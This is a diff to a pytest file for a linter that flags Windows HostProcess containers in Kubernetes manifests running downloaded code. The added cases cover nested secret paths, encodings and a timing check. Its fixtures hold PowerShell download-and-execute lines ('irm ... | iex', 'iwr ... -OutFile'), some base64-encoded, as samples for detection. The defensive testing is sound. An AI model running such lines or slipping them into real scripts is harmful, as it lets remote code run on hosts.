@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 from helm_charts import DAEMON_SET, write
 from scanning import report, run, scan_text, seconds
+from scanning import write as write_files
 from test_commands import NEW, OLD, found, handler, pod, rules
 
 from hostprocess_lint.rules.downloads import downloaded_code
@@ -220,6 +221,7 @@ FETCHES = "irm https://x/a | iex"
 SECRET = {"secret": {"secretName": "scripts"}}
 OF_SECRET = {"projected": {"sources": [{"secret": {"name": "scripts"}}]}}
 RENAMED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "run.ps1"}]}}
+NESTED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "deep/down/run.ps1"}]}}
 OF_MAP = {"configMap": {"name": "scripts"}}
 
 
@@ -229,12 +231,14 @@ OF_MAP = {"configMap": {"name": "scripts"}}
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 4),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-16")}}, OF_MAP, 4),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-8-sig")}}, OF_MAP, 4),
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(f"# caf\u00e9\n{FETCHES}", "latin-1")}}, OF_MAP, 4),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64("Get-Date")}}, OF_MAP, 0),
         ("ConfigMap", {"binaryData": {"run.ps1": "no base64!"}}, OF_MAP, 0),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, SECRET, 0),
         ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, SECRET, 4),
         ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_SECRET, 4),
         ("Secret", {"data": {"agent": in_base64(FETCHES)}}, RENAMED, 4),
+        ("Secret", {"data": {"agent": in_base64(FETCHES)}}, NESTED, 4),
         ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 0),
         ("Secret", {"data": {"run.ps1": FETCHES}}, SECRET, 0),
         ("Secret", {"stringData": {"run.ps1": FETCHES}}, SECRET, 4),
@@ -419,7 +423,7 @@ def test_time_grows_with_the_text(piece: str) -> None:
 
 
 def test_a_script_that_many_containers_run_is_read_once() -> None:
-    script = "iwr https://x/a.exe -OutFile C:\\k\\a.exe; $a = 'b' + 'c'\n" * 2000
+    script = "iwr https://x/a.exe -OutFile C:\\k\\a.exe; $a = 'b' + 'c'\n" * 8000
     config = json.dumps({**SCRIPT, "data": {"run.ps1": script}})
     running = {"command": ["powershell", "-File", "C:\\s\\run.ps1"], "volumeMounts": [{"name": "v", "mountPath": "/s"}]}
 
@@ -427,7 +431,7 @@ def test_a_script_that_many_containers_run_is_read_once() -> None:
         containers = [{"name": f"c{n}", "image": "registry.example/a:1.0.0", **running} for n in range(number)]
         scan_text(f"{config}\n---\n{pod({**VOLUMES, 'initContainers': containers})}", NEW)
 
-    assert seconds(lambda: partial(scan, 60)) < 6 * seconds(lambda: partial(scan, 2))
+    assert seconds(lambda: partial(scan, 60)) < 12 * seconds(lambda: partial(scan, 2))
 
 
 def test_a_chart_s_scripts_are_read(tmp_path: Path) -> None:
@@ -447,3 +451,13 @@ def test_a_chart_s_scripts_are_read(tmp_path: Path) -> None:
     (tmp_path / "agent" / "templates" / "a.yaml").write_text("apiVersion: v1\nkind: Service\nmetadata: {name: a}\n")
     clean = report("agent", cwd=tmp_path)
     assert (clean["findings"], clean["coverage"]["irrelevant"], clean["coverage"]["judged"]) == ([], 1, 0)
+
+
+def test_of_several_objects_of_one_name_the_one_beside_the_pod_is_read(tmp_path: Path) -> None:
+    harmless = {**SCRIPT, "data": {"run.ps1": "Get-Date\n"}}
+    mounts = mounting("C:\\scripts\\run.ps1")
+    for folder, config in (("first", harmless), ("second", SCRIPT), ("third", harmless)):
+        write_files(tmp_path / folder, {"map.yaml": json.dumps(config), "pod.yaml": mounts})
+    findings = [each for each in report(".", cwd=tmp_path)["findings"] if each["rule"] == "HPC411"]
+    assert [each["location"]["path"] for each in findings] == ["second/pod.yaml"]
+    assert [each["location"]["path"] for each in findings[0]["related"]] == ["second/map.yaml"]
